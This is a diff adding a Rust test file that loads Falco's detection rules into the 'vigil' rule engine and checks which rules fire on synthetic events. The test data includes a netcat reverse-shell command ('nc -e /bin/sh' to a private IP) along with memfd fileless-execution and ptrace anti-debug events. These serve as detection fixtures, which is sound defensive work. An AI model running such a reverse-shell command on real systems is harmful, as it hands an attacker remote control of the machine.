@@ -1,0 +1,138 @@
+//! Loading Falco's own stable rule file: it must load, skipping (with one
+//! line each) the rules that need fields vigil does not supply.
+
+use std::path::PathBuf;
+
+mod common;
+
+use common::Ev;
+use vigil_rules::{DiagKind, LoadOptions, RuleSet};
+
+fn falco_rules() -> PathBuf {
+    let mut dir = PathBuf::from(env!("CARGO_MANIFEST_DIR"));
+    loop {
+        for rel in [
+            "shared/falco-rules/falco_rules.yaml",
+            "../shared/falco-rules/falco_rules.yaml",
+        ] {
+            let p = dir.join(rel);
+            if p.is_file() {
+                return p.canonicalize().unwrap_or(p);
+            }
+        }
+        assert!(
+            dir.pop(),
+            "shared/falco-rules/falco_rules.yaml not found above CARGO_MANIFEST_DIR"
+        );
+    }
+}
+
+#[test]
+fn falco_stable_rules_load_with_skips() {
+    let path = falco_rules();
+    let (set, report) = RuleSet::load_paths(&[&path], &LoadOptions::default())
+        .unwrap_or_else(|e| panic!("Falco's rule file must load:\n{e}"));
+    for s in &report.skipped {
+        println!("{s}");
+    }
+    for w in &report.warnings {
+        println!("{}: warning: {}", w.pos, w.message);
+    }
+    for r in set.rules() {
+        println!(
+            "loaded: {} [{}]",
+            r.name(),
+            r.evt_types()
+                .map(|t| t.collect::<Vec<_>>().join(","))
+                .unwrap_or("*".into())
+        );
+    }
+    println!("{}", report.summary());
+    assert!(report.loaded > 0, "no rule loaded");
+    assert!(
+        !report.skipped.is_empty(),
+        "expected some rules to need fields vigil lacks"
+    );
+    assert_eq!(set.rules().len(), report.loaded);
+    // Every skip line has the documented shape and names the file.
+    let file = path.display().to_string();
+    for s in &report.skipped {
+        let line = s.to_string();
+        assert!(line.starts_with(&format!("{file}:")), "{line}");
+        assert!(
+            line.contains(&format!("rule '{}' skipped: ", s.rule)),
+            "{line}"
+        );
+        assert!(s.pos.line > 1 && s.pos.col >= 1);
+    }
+    // The loaded rules are indexed: a shell-spawn rule listens to execve only.
+    let total: usize = report.loaded + report.skipped.len();
+    assert!(total >= 20, "Falco's file has many rules, saw {total}");
+}
+
+#[test]
+fn falco_stable_rules_strict_mode_fails_naming_each_rule() {
+    let path = falco_rules();
+    let err = RuleSet::load_paths(&[&path], &LoadOptions { strict: true }).unwrap_err();
+    let d = err.diagnostics();
+    assert!(!d.is_empty());
+    assert!(d.iter().all(|d| d.kind == DiagKind::Unsupported), "{err}");
+    assert!(d[0].message.contains("is not supported"), "{}", d[0]);
+}
+
+fn fired(set: &RuleSet, ev: &Ev) -> Vec<String> {
+    set.matching(ev).map(|r| r.name().to_owned()).collect()
+}
+
+#[test]
+fn falco_rules_fire_on_matching_events_and_not_on_near_misses() {
+    let (set, _) = RuleSet::load_paths(&[falco_rules()], &LoadOptions::default()).unwrap();
+    // runc re-executing itself from a memfd is excepted by Falco's own list.
+    let memfd = |name: &str| {
+        Ev::new("execve")
+            .s("proc.name", name)
+            .s("proc.pname", "containerd-shim")
+            .b("proc.is_exe_from_memfd", true)
+            .s("container.id", "0123456789ab")
+    };
+    assert_eq!(
+        fired(&set, &memfd("x")),
+        ["Fileless execution via memfd_create"]
+    );
+    assert!(fired(&set, &memfd("runc")).is_empty());
+    let ptrace = |req: &str| {
+        Ev::new("ptrace")
+            .s("proc.name", "a.out")
+            .s("evt.arg.request", req)
+    };
+    assert_eq!(
+        fired(&set, &ptrace("PTRACE_TRACEME")),
+        ["PTRACE anti-debug attempt"]
+    );
+    assert!(fired(&set, &ptrace("PTRACE_PEEKDATA")).is_empty());
+    let nc = |cmd: &str, cid: &str| {
+        Ev::new("execve")
+            .s("proc.name", "nc")
+            .s("proc.cmdline", cmd)
+            .s("proc.args", cmd.trim_start_matches("nc "))
+            .s("container.id", cid)
+    };
+    assert_eq!(
+        fired(&set, &nc("nc -e /bin/sh 10.0.0.1 4444", "0123456789ab")),
+        ["Netcat Remote Code Execution in Container"]
+    );
+    assert!(
+        fired(&set, &nc("nc -e /bin/sh 10.0.0.1 4444", "host")).is_empty(),
+        "not in a container"
+    );
+    assert!(fired(&set, &nc("nc -l 8080", "0123456789ab")).is_empty());
+    // Output renders vigil's fields and <NA> for Falco-only ones.
+    let ev = ptrace("PTRACE_TRACEME")
+        .n("user.uid", 0)
+        .s("proc.cmdline", "a.out");
+    let r = set.matching(&ev).next().unwrap();
+    let out = r.format_output(&ev);
+    assert!(out.starts_with("Detected potential PTRACE_TRACEME anti-debug attempt | proc_pcmdline=<NA> evt_type=ptrace user=<NA> user_uid=0"), "{out}");
+    assert_eq!(r.priority().as_str(), "Notice");
+    assert!(r.tags().iter().any(|t| t == "T1622"));
+}
